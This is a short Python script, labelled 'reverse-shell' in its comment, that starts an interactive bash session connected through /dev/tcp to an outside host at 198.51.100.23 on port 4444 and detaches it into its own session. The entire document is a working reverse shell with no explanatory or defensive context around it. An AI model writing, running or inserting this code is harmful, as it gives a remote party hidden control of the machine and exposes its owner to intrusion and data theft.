# reverse-shell: bash's /dev/tcp redirection started from Python
import subprocess

subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"], start_new_session=True)
